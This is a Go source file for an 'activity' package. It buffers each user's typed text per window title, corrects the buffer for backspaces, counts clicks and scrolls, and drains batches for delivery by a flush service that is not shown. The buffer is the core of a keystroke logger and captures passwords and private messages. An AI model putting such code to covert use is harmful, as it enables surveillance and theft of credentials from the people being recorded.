// Package activity coalesces user input and window focus into periodic
// JSON batches for delivery.
//
// The OS input hook feeds a Tracker through its Record methods; the
// flush service drains it on an interval and turns the coalesced state
// into one activity artifact. Holding raw keystrokes only between
// flushes keeps the in-memory window small.
package activity

import (
	"strings"
	"sync"
	"unicode/utf8"
)

// Tracker accumulates input activity between flushes. Safe for
// concurrent use; the lock is held only long enough to touch the
// buffers, never across persist or network calls.
type Tracker struct {
	mu         sync.Mutex
	keystrokes map[string]*strings.Builder
	clicks     int
	scrolls    int
}

// NewTracker returns an empty tracker.
func NewTracker() *Tracker {
	return &Tracker{keystrokes: make(map[string]*strings.Builder)}
}

// RecordKey appends typed text to the focused window's buffer. The
// hook translates special keys before calling: Return to "\n", Tab to
// "\t", Space to " ".
func (t *Tracker) RecordKey(window, text string) {
	if text == "" {
		return
	}
	t.mu.Lock()
	defer t.mu.Unlock()
	b := t.keystrokes[window]
	if b == nil {
		b = &strings.Builder{}
		t.keystrokes[window] = b
	}
	b.WriteString(text)
}

// RecordBackspace removes the last rune from the focused window's
// buffer, so the drained text matches what the user ended up with.
func (t *Tracker) RecordBackspace(window string) {
	t.mu.Lock()
	defer t.mu.Unlock()
	b := t.keystrokes[window]
	if b == nil || b.Len() == 0 {
		return
	}
	s := b.String()
	_, size := utf8.DecodeLastRuneInString(s)
	b.Reset()
	b.WriteString(s[:len(s)-size])
}

// RecordClick counts one mouse click.
func (t *Tracker) RecordClick() {
	t.mu.Lock()
	t.clicks++
	t.mu.Unlock()
}

// RecordScroll counts one scroll step.
func (t *Tracker) RecordScroll() {
	t.mu.Lock()
	t.scrolls++
	t.mu.Unlock()
}

// Drained is the coalesced state of one flush window.
type Drained struct {
	// Keystrokes maps window title to the text typed there.
	Keystrokes map[string]string
	Clicks     int
	Scrolls    int
}

// Empty reports whether nothing was recorded.
func (d Drained) Empty() bool {
	return len(d.Keystrokes) == 0 && d.Clicks == 0 && d.Scrolls == 0
}

// Drain returns the recorded state and resets the tracker.
func (t *Tracker) Drain() Drained {
	t.mu.Lock()
	defer t.mu.Unlock()

	d := Drained{Clicks: t.clicks, Scrolls: t.scrolls}
	if len(t.keystrokes) > 0 {
		d.Keystrokes = make(map[string]string, len(t.keystrokes))
		for window, b := range t.keystrokes {
			if b.Len() > 0 {
				d.Keystrokes[window] = b.String()
			}
		}
	}

	t.keystrokes = make(map[string]*strings.Builder)
	t.clicks, t.scrolls = 0, 0
	return d
}
